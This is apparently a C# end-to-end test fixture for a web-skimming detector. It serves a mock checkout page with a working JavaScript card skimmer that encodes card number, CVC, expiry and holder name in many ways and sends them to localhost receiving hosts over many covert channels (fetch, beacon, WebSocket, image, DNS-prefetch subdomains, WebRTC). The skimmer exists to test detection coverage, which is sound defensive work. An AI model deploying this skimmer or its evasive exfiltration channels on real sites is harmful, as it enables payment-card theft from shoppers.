using System.Net.WebSockets;
using Microsoft.AspNetCore.Http;
using PageShield.Crawls;
using PageShield.Crawls.Captures;

namespace PageShield.EndToEndTests.Crawls;

/// <summary>
/// Skimmers of our own: each way of wrapping card data by each way of getting it out of a page. A cell is one such pair, with a receiving
/// host of its own, so that one visit tells many cells apart.
/// </summary>
internal static class CanaryMatrix
{
    /// <summary>JavaScript from a text to a text, to bytes, or to pieces that are sent one by one.</summary>
    public static readonly IReadOnlyList<(string Name, string Code)> Encodings =
    [
        ("plain", "t => t"),
        ("url", "t => [...t].map(c => '%' + c.charCodeAt(0).toString(16).padStart(2, '0')).join('')"),
        ("base64", "t => btoa(t)"),
        ("base64url", "t => btoa(t).replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=/g, '')"),
        ("hex", "t => [...t].map(c => c.charCodeAt(0).toString(16).padStart(2, '0')).join('')"),
        ("reversed", "t => [...t].reverse().join('')"),
        ("json", "t => [...t].map(c => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('')"),
        ("html", "t => [...t].map(c => '&#' + c.charCodeAt(0) + ';').join('')"),
        ("gzip", "async t => new Uint8Array(await new Response(new Blob([t]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer())"),
        ("deflate", "async t => new Uint8Array(await new Response(new Blob([t]).stream().pipeThrough(new CompressionStream('deflate-raw'))).arrayBuffer())"),
        ("xor-byte", "t => Uint8Array.from(t, c => c.charCodeAt(0) ^ 0x5a)"),
        ("xor-host", "t => Uint8Array.from(t, (c, i) => c.charCodeAt(0) ^ location.hostname.charCodeAt(i % location.hostname.length))"),
        ("codes", "t => [...t].map(c => c.charCodeAt(0)).join(',')"),
        ("split", "t => t.match(/.{1,6}/gs)"),
    ];

    /// <summary>
    /// JavaScript with the receiver's origin <c>u</c>, and the data as text <c>d</c>, as it came <c>raw</c>, and fit for a URL <c>q</c>.
    /// </summary>
    public static readonly IReadOnlyList<(string Name, string Code)> Channels =
    [
        ("fetch", "fetch(u + '/c', { method: 'POST', mode: 'no-cors', body: raw }).catch(() => {})"),
        ("xhr", "{ const x = new XMLHttpRequest(); x.open('POST', u + '/c'); x.send(raw); }"),
        ("beacon", "navigator.sendBeacon(u + '/c', raw)"),
        ("websocket", "{ const w = sockets[u] ??= new WebSocket(u.replace('http', 'ws') + '/socket'); w.readyState === 1 ? w.send(raw) : w.addEventListener('open', () => w.send(raw)); }"),
        ("eventsource", "new EventSource(u + '/e?d=' + q)"),
        ("image", "new Image().src = u + '/p.gif?d=' + q"),
        ("stylesheet", "add('link', { rel: 'stylesheet', href: u + '/c.css?d=' + q })"),
        ("css-background", "add('div', { style: `width:9px;height:9px;background:url(\"${u}/b.png?d=${q}\")` })"),
        ("script", "add('script', { src: u + '/s.js?d=' + q })"),
        ("iframe", "add('iframe', { src: u + '/f?d=' + q })"),
        ("media", "new Audio(u + '/a.mp3?d=' + q).play().catch(() => {})"),
        ("form", "{ const f = add('form', { method: 'post', action: u + '/form', target: add('iframe', { name: 'f' + Math.random() }).name }); add('input', { type: 'hidden', name: 'd', value: d }, f); f.submit(); }"),
        ("navigation", "location.href = u + '/n?d=' + q"),
        ("prefetch", "add('link', { rel: 'prefetch', href: u + '/pre?d=' + q })"),
        ("dns-hint", "add('link', { rel: 'dns-prefetch', href: '//' + hex(d).match(/.{1,60}/g).join('.') + '.' + u.split('//')[1] })"),
        ("webrtc", "new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + u.split('//')[1], username: d, credential: 'x' }] })"),
        ("worker", "new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(u + '/w')}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(d)} }).catch(() => {})`])))"),
    ];

    private const string Skimmer = """
        const sockets = {};
        const hex = t => [...t].map(c => c.charCodeAt(0).toString(16).padStart(2, '0')).join('');
        const add = (name, attributes, parent = document.body) => { const e = document.createElement(name); for (const a in attributes) e.setAttribute(a, attributes[a]); parent.append(e); return name === 'iframe' && attributes.name ? attributes : e; };
        const text = bytes => [...bytes].map(b => String.fromCharCode(b)).join('');
        const cells = [CELLS];
        document.forms[0].addEventListener('submit', async () => {
          const form = document.forms[0];
          const card = [form.cardnumber.value, form.cvc.value, form.exp.value, form.holder.value].join('|');
          for (const [u, encode, send] of cells) {
            const wrapped = await encode(card);
            for (const raw of Array.isArray(wrapped) ? wrapped : [wrapped]) {
              // Bytes go as they are where a channel carries bytes, else in Base64.
              const d = typeof raw === 'string' ? raw : btoa(text(raw));
              send(u, d, raw, encodeURIComponent(d));
              if (send.waits) await new Promise(done => setTimeout(done, 100));
            }
          }
        });
        """;

    private const string Checkout = """
        <title>Checkout</title><body><form action="/order" method="post">
        <input name="holder" autocomplete="cc-name"><input name="cardnumber" autocomplete="cc-number"><input name="exp" autocomplete="cc-exp">
        <input name="cvc" autocomplete="cc-csc"><button>Pay now</button></form><script src="/skimmer.js"></script>
        """;

    /// <summary>Whether a pair can exist: some channels send once, and a host name holds few characters.</summary>
    public static bool Exists(string channel, string encoding) => channel switch
    {
        "dns-hint" => encoding is not ("split" or "url" or "json" or "html" or "codes"),
        "form" or "webrtc" or "worker" => encoding != "split",
        _ => true,
    };

    /// <summary>All pairs of these that exist.</summary>
    public static List<(string Channel, string Encoding)> Cells(IEnumerable<string> channels, IEnumerable<string> encodings) =>
        [.. channels.SelectMany(channel => encodings.Select(encoding => (channel, encoding)))
            .Where(static cell => Exists(cell.channel, cell.encoding))];

    /// <summary>Serves a shop with a skimmer for these cells, and says how to crawl it.</summary>
    public static CrawlPlan Serve(FixtureSite site, IReadOnlyList<(string Channel, string Encoding)> cells)
    {
        var code = cells.Select(cell =>
        {
            var send = $"(u, d, raw, q) => {{ {Channels.Single(channel => channel.Name == cell.Channel).Code} }}";
            if (cell.Channel == "navigation") send = $"Object.assign({send}, {{ waits: true }})";
            return $"['http://{HostOf(cell)}:{site.Port}', {Encodings.Single(encoding => encoding.Name == cell.Encoding).Code}, {send}]";
        });
        site.Html("shop.localhost/checkout", Checkout)
            .Script("shop.localhost/skimmer.js", Skimmer.Replace("CELLS", string.Join(",\n", code), StringComparison.Ordinal));
        foreach (var cell in cells) site.Answer($"{HostOf(cell)}/socket", ListenAsync);
        return site.Plan(["shop.localhost/checkout"], [.. cells.Select(HostOf)]);
    }

    /// <summary>The cells whose theft the capture does not tell.</summary>
    public static List<(string Channel, string Encoding)> Missed(Capture capture, IEnumerable<(string Channel, string Encoding)> cells) =>
        [.. cells.Where(cell => !capture.Findings.Any(finding =>
            finding.Rule == "canary-exfiltration" && finding.Title.Contains("card number", StringComparison.Ordinal)
                && finding.Title.Contains(HostOf(cell), StringComparison.Ordinal)))];

    private static string HostOf((string Channel, string Encoding) cell) => $"{cell.Channel}-{cell.Encoding}.localhost";

    private static async Task ListenAsync(HttpContext context)
    {
        if (!context.WebSockets.IsWebSocketRequest) return;
        using var socket = await context.WebSockets.AcceptWebSocketAsync();
        var buffer = new byte[4096];
        try
        {
            while ((await socket.ReceiveAsync(buffer, context.RequestAborted)).MessageType != WebSocketMessageType.Close) { }
        }
        catch (Exception exception) when (exception is WebSocketException or OperationCanceledException)
        {
            // The page is gone.
        }
    }
}
